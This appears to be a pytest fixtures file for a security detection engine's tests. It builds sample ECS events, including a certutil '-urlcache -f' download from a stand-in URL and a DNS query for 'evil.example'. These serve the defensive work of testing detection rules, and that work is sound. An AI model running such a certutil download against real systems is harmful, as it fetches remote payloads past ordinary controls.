"""Shared data for the engine tests: the repository's bundled rules and small event files."""

import json
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
RULES = REPO / "rules"
EVENTS = REPO / "examples" / "events.ndjson"


def event(category, **fields):
    """A minimal ECS event of `category` on host h1."""
    base = {"@timestamp": "2026-01-05T08:00:00.000Z", "event": {"category": [category], "type": ["start"]}, "host": {"id": "h1"}}
    base.update(fields)
    return base


def ndjson(events):
    return "".join(json.dumps(e) + "\n" for e in events)


@pytest.fixture
def certutil():
    return event("process", process={"name": "certutil.exe", "args": ["certutil.exe", "-urlcache", "-f", "http://x/a"], "command_line": "certutil.exe -urlcache -f http://x/a", "pid": 4000})


@pytest.fixture
def bad_dns():
    return event("network", dns={"question": {"name": "evil.example"}})
